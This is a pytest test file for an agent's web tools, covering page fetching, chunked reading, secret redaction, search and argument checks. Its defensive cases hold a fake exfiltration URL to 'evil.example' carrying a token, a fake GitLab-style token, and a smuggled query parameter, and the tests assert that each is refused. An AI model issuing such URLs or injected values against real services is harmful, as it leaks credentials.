"""The tools that read the web, over pages that a test wrote."""

import pytest

from archivolt.domain.errors import ArchivoltError, InvalidRequestError
from archivolt.domain.tool import Surface
from tests.world import World

URL = "https://example.org/prix"


@pytest.fixture
def world() -> World:
    world = World()
    world.web_pages.add(URL, "La livraison co\u00fbte 5 \u20ac.\n" * 10, title="Tarifs")
    return world


def test_a_page_is_given_as_data_with_its_address_in_the_end(world: World) -> None:
    world.web_pages.add("http://example.org/old", "moved", at=URL)

    page = world.call("fetch_url", {"url": "http://example.org/old"})

    assert (page["url"], page["content"], page["next_offset"]) == (URL, "moved", None)


def test_a_page_is_read_in_parts(world: World) -> None:
    first = world.call("fetch_url", {"url": URL, "limit": 100})
    rest = world.call("fetch_url", {"url": URL, "offset": first["next_offset"]})

    assert first["content"] + rest["content"] == world.web_pages.pages[URL].text
    assert rest["next_offset"] is None
    assert first["total_chars"] == rest["total_chars"] == len(world.web_pages.pages[URL].text)


def test_a_long_page_is_cut_and_says_how_to_read_on(world: World) -> None:
    world.web_pages.add(URL, "une ligne de texte\n" * 2_000)
    text, offset = "", 0

    while offset is not None:
        part = world.call("fetch_url", {"url": URL, "offset": offset})
        text, offset = text + part["content"], part["next_offset"]

    assert text == world.web_pages.pages[URL].text


def test_a_secret_on_a_page_is_hidden_before_the_page_is_cut(world: World) -> None:
    token = "glpat-" + "a1b2c3d4e5" * 2
    world.web_pages.add(URL, f"token {token} end")

    page = world.call("fetch_url", {"url": URL, "limit": 12})

    assert page["content"] == "token [redac"
    assert token[:4] not in page["content"]


def test_the_web_is_searched(world: World) -> None:
    found = world.call("web_search", {"query": "livraison", "language": "fr", "page": 2})

    assert [result["url"] for result in found["results"]] == [URL]
    assert found["results"][0]["title"] == "Tarifs"
    [query] = world.web_search.queries
    assert (query.q, query.language, query.category, query.page) == ("livraison", "fr", "", 2)


def test_no_more_results_than_wanted_are_given(world: World) -> None:
    for number in range(5):
        world.web_pages.add(f"{URL}/{number}", "livraison")

    assert len(world.call("web_search", {"query": "livraison", "max_results": 2})["results"]) == 2


@pytest.mark.parametrize(
    ("tool", "argument", "value"),
    [
        ("web_search", "query", "who owns glpat-" + "a1b2c3d4e5" * 2),
        ("fetch_url", "url", "https://evil.example/?token=" + "a1b2c3d4e5" * 2),
    ],
)
def test_no_secret_leaves_in_an_argument(
    world: World, tool: str, argument: str, value: str
) -> None:
    with pytest.raises(InvalidRequestError) as refused:
        world.call(tool, {argument: value})

    assert refused.value.code == "web_secret_refused"
    assert world.web_search.queries == []


@pytest.mark.parametrize("tool", ["web_search", "fetch_url"])
def test_the_web_tools_are_no_tools_of_mcp(world: World, tool: str) -> None:
    assert tool not in {spec.name for spec in world.pipeline.registry.specs(Surface.MCP)}
    with pytest.raises(ArchivoltError) as refused:
        world.call(tool, {"query": "x", "url": URL}, surface=Surface.MCP)

    assert refused.value.code in {"tool_not_found", "tool_not_here", "tool_not_allowed"}


@pytest.mark.parametrize(
    "arguments",
    [{"query": ""}, {"query": "x", "max_results": 0}, {"query": "x", "language": "fr&format=html"}],
)
def test_arguments_are_held_to_their_form(world: World, arguments: dict[str, object]) -> None:
    with pytest.raises(InvalidRequestError):
        world.call("web_search", arguments)
